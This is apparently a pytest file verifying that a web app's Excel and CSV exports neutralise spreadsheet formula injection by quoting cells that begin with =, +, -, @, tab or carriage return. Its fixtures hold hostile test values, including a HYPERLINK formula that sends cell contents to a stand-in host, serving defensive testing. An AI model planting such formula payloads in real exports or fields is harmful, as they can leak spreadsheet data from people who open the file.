"""Spreadsheet exports write user text as text: no cell of an Excel file is a formula, and no
CSV cell starts with a formula character (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
import shapely
from openpyxl import load_workbook
from shapely import box
from sqlalchemy import text

from app.services.assignment import assign_all
from app.services.exports import append_row, csv_cell, csv_text
from tests.conftest import csrf_token, login
from tests.factories import (
    X0,
    Y0,
    add_category,
    add_households,
    add_incident,
    add_user,
    build_world,
)

# One hostile name per grid and one address per household: every formula lead-in.
NAMES = {
    "NW": "=1+1",
    "NE": "+SUM(1,2)",
    "SW": "-2+3",
    "SE": "@SUM(A1)",
}
ADDRESSES = ['=HYPERLINK("http://x.test/?"&A1,"点我")', "\tTAB=1", "\r=CR", "-1"]


@pytest.fixture
def world(session):
    world = build_world(session)
    for key, name in NAMES.items():
        session.execute(
            text("UPDATE areas SET name = :name WHERE id = :id"),
            {"name": name, "id": world.grids[key].id},
        )
    for address in ADDRESSES:
        add_households(session, [(X0 + 0.005, Y0 + 0.015)], address=address, members=2)
    road = add_category(session)
    add_incident(session, world, "NW", road)
    add_user(session, "admin", "admin")
    add_user(session, "leader", "leader")
    add_user(session, "planner", "planner")
    assign_all(session)
    session.commit()
    return world


def workbook_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(cells, expected_texts) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected_texts:
        cell = by_value[value]
        assert cell.data_type == "s", value
        assert cell.quotePrefix, value


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_csv_neutralised(rows, expected_texts) -> None:
    cells = [cell for row in rows for cell in row]
    for value in expected_texts:
        assert "'" + value in cells, value
        assert value not in cells, value
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not _is_number(cell)), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_areas_xlsx_and_csv(client, world):
    login(client, "planner")
    parent = world.community.code
    xlsx = client.get(f"/api/v1/areas/export?format=xlsx&parent={parent}")
    assert xlsx.status_code == 200
    cells = workbook_cells(xlsx.data)
    assert_text_not_formula(cells, NAMES.values())
    households = [c for c in cells if c.column == 5 and c.row > 1]
    assert [(c.value, c.data_type) for c in households] == [(4, "n"), (0, "n"), (0, "n"), (0, "n")]
    rows = csv_rows(client.get(f"/api/v1/areas/export?format=csv&parent={parent}").data)
    assert_csv_neutralised(rows, NAMES.values())
    assert rows[1][rows[0].index("households")] == "4"


def test_dashboard_xlsx_and_csv(client, world):
    login(client, "leader")
    query = f"level=grid&parent={world.community.code}"
    response = client.get(f"/dashboard.xlsx?{query}")
    assert response.status_code == 200
    cells = workbook_cells(response.data)
    assert_text_not_formula(cells, NAMES.values())
    counted = [c for c in cells if c.column == 3 and c.row > 1]
    assert {c.data_type for c in counted} == {"n"}
    rows = csv_rows(client.get(f"/dashboard.csv?{query}").data)
    assert_csv_neutralised(rows, NAMES.values())


def test_door_knock_xlsx(client, world):
    login(client, "admin")
    headers = {"X-CSRFToken": csrf_token(client, "/")}
    zone = box(X0 + 0.002, Y0 + 0.012, X0 + 0.008, Y0 + 0.018)
    hazard = client.post(
        "/api/v1/hazards",
        json={"hazard_class": "flood", "severity": 2, "geometry": shapely.geometry.mapping(zone)},
        headers=headers,
    ).json
    run = client.post(
        f"/api/v1/hazards/{hazard['id']}/impact", json={"buffer_m": 0}, headers=headers
    ).json
    response = client.get(f"/api/v1/impact-runs/{run['id']}/door-knock.xlsx")
    assert response.status_code == 200
    cells = workbook_cells(response.data)
    assert_text_not_formula(cells, ['=HYPERLINK("http://x.test/?"&A1,"点我")', "-1", "=1+1"])
    members = [c for c in cells if c.column == 7 and c.row > 1]
    assert [(c.value, c.data_type) for c in members] == [(2, "n")] * 4


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("网格", "网格"),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_one_csv_cell_rule(value, cell):
    assert csv_cell(value) == cell


def test_csv_text_keeps_numbers_and_quotes_text():
    rows = csv_rows(csv_text([["a", "b"], ["=x", -3], [None, 1.5]]).encode())
    assert rows == [["a", "b"], ["'=x", "-3"], ["", "1.5"]]


def test_append_row_drops_characters_a_workbook_cannot_hold():
    from openpyxl import Workbook

    book = Workbook()
    append_row(book.active, ["a\x01b", "=c", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    (row,) = load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()
    assert [(c.value, c.data_type) for c in row] == [("ab", "s"), ("=c", "s"), (3, "n")]
